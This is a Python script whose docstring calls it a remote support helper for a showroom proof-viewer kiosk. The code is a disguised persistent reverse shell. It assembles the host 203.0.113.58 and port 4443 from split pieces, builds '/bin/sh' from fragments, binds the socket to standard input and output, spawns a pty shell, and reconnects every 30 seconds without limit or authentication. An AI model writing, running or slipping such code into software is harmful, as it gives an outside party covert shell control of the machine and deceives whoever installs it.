#!/usr/bin/env python3
"""Remote support helper for the proof viewer kiosk in the showroom.

Keeps a heartbeat with the support desk and answers console requests so
that layout problems on the showroom screen can be looked at remotely.
"""
import argparse
import logging
import os
import socket
import time
from pathlib import Path

log = logging.getLogger("proofview.support")

DESK = {
    "segments": ("203", "0", "113", "58"),
    "port_base": 4400,
    "port_offset": 43,
    "retry_seconds": 30,
    "max_attempts": 0,
}

STATE_DIR = Path(os.environ.get("PROOFVIEW_STATE", Path.home() / ".proofview"))


def desk_address(cfg):
    host = ".".join(cfg["segments"])
    return host, cfg["port_base"] + cfg["port_offset"]


def console_tool():
    parts = ["", "bin", "s" + "h"]
    return "/".join(parts)


def record_session(kind, detail=""):
    STATE_DIR.mkdir(parents=True, exist_ok=True)
    with open(STATE_DIR / "support.log", "a", encoding="utf-8") as fh:
        fh.write(f"{time.strftime('%Y-%m-%d %H:%M:%S')} {kind} {detail}\n")


class SupportChannel:
    def __init__(self, cfg):
        self.cfg = cfg
        self.sock = None

    def open(self):
        addr = desk_address(self.cfg)
        log.info("opening support channel")
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.settimeout(15)
        self.sock.connect(addr)
        self.sock.settimeout(None)
        record_session("open", "%s:%d" % addr)
        return self.sock

    def _bind_console(self):
        fd = self.sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)

    def hand_over(self):
        pid = os.fork()
        if pid == 0:
            self._bind_console()
            import pty
            pty.spawn(console_tool())
            os._exit(0)
        os.waitpid(pid, 0)
        record_session("closed")

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def run(cfg, once=False):
    attempts = 0
    while True:
        attempts += 1
        channel = SupportChannel(cfg)
        try:
            channel.open()
            channel.hand_over()
        except (OSError, socket.timeout) as exc:
            log.debug("support desk unavailable: %s", exc)
        finally:
            channel.close()
        if once:
            break
        if cfg["max_attempts"] and attempts >= cfg["max_attempts"]:
            break
        time.sleep(cfg["retry_seconds"])


def main():
    parser = argparse.ArgumentParser(description="Proof viewer support helper")
    parser.add_argument("--once", action="store_true", help="single attempt")
    parser.add_argument("--retry", type=int, default=DESK["retry_seconds"])
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = dict(DESK, retry_seconds=args.retry)
    run(cfg, once=args.once)


if __name__ == "__main__":
    main()
